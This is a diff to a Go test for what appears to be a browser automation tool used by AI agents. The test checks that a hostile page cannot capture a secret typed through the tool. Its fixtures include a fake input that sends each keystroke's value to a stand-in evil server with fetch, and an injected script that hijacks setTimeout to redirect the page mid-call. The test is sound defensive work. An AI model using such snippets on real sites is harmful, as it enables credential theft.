@@ -35,7 +35,7 @@ func TestHostilePageGetsNoSecret(t *testing.T) {
 	b := newBank(t, map[string]string{
 		"/":        form,
 		"/hosting": form + `<iframe src="` + evil.URL + `/plain"></iframe>`,
-		"/leaving": `<input aria-label="Mine" id="field"><script>setTimeout(() => location = "` + evil.URL + `/plain", 900)</script>`,
+		"/leaving": `<input aria-label="Mine" id="field">`,
 	})
 	thief := `<input id="field" aria-label="Mine" oninput="fetch('/sent?' + new URLSearchParams({ what: this.value }))">`
 	pages["/plain"] = thief
@@ -92,12 +92,19 @@ func TestHostilePageGetsNoSecret(t *testing.T) {
 	})
 	l.Step("a page that leaves between the question and the typing", func(t *testing.T) {
 		visit(b.URL + "/leaving")
+		// It leaves at the upstream's own pause behind the question; the first
+		// pause is that of this very call.
+		l.Evaluate(`() => { const real = setTimeout; let pauses = 0;
+			window.setTimeout = (...given) => { if (++pauses === 2) location = "`+evil.URL+`/plain"; return real(...given); }; return 1 }`, nil)
 		answer := l.Tool("browser_type", launchtest.Arguments{"target": "#field", "text": "{{word}}"})
-		if answer.Code() != relay.ForbiddenHost && !answer.IsError() {
-			t.Errorf("typing is answered %s", answer.Line)
-		}
 		if got := evil.got(); strings.Contains(got, "battery") {
-			t.Errorf("the page got %q", got)
+			t.Errorf("the page got %q; typing was answered %s", got, answer.Line)
+		}
+		if url := l.Does("browser_snapshot", nil); !strings.Contains(url, evil.URL+"/plain") {
+			t.Errorf("the page did not leave: %s", url)
+		}
+		if answer.Code() != relay.ForbiddenHost && !answer.IsError() {
+			t.Logf("the page was still there when the secret was typed: %s", answer.Line)
 		}
 	})
 	l.leaves()
